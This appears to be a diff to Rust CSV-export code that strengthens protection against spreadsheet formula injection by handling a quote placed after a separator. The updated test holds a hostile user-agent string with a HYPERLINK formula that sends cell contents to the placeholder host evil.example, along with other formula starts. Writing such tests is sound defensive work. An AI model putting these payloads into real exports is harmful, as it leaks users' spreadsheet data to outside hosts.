@@ -68,7 +68,8 @@ fn cell(value: &str) -> String {
             out.push(' ');
         }
         out.push(c);
-        after_separator = matches!(c, ';' | ',' | '\t' | '\r' | '\n');
+        // (a quote after a separator does not end it: a spreadsheet drops it from the piece)
+        after_separator = matches!(c, ';' | ',' | '\t' | '\r' | '\n') || (after_separator && c == '"');
     }
     out
 }
@@ -163,7 +164,7 @@ mod tests {
     /// semicolon (Excel in a German or French locale) or a tab, no piece may start a formula.
     #[test]
     fn no_piece_a_spreadsheet_cuts_at_a_semicolon_or_tab_starts_a_formula() {
-        let ua = "Mozilla/5.0 ;=HYPERLINK(\"http://evil.example/?\"&A2);\t+1;-1,@SUM(1)\n=2";
+        let ua = "Mozilla/5.0 ;=HYPERLINK(\"http://evil.example/?\"&A2);\t+1;-1,@SUM(1)\n=2;\"=3;\"\"+4";
         let activity = domain::auth::activity::Activity {
             id: uuid::Uuid::nil(),
             kind: domain::kinds::EventKind::SignInFailed,
@@ -183,5 +184,6 @@ mod tests {
         assert_eq!(cell("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"),
             "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)");
         assert_eq!(cell("a;=1"), "a; =1");
+        assert_eq!(cell("x;\"=1"), "x;\" =1");
     }
 }
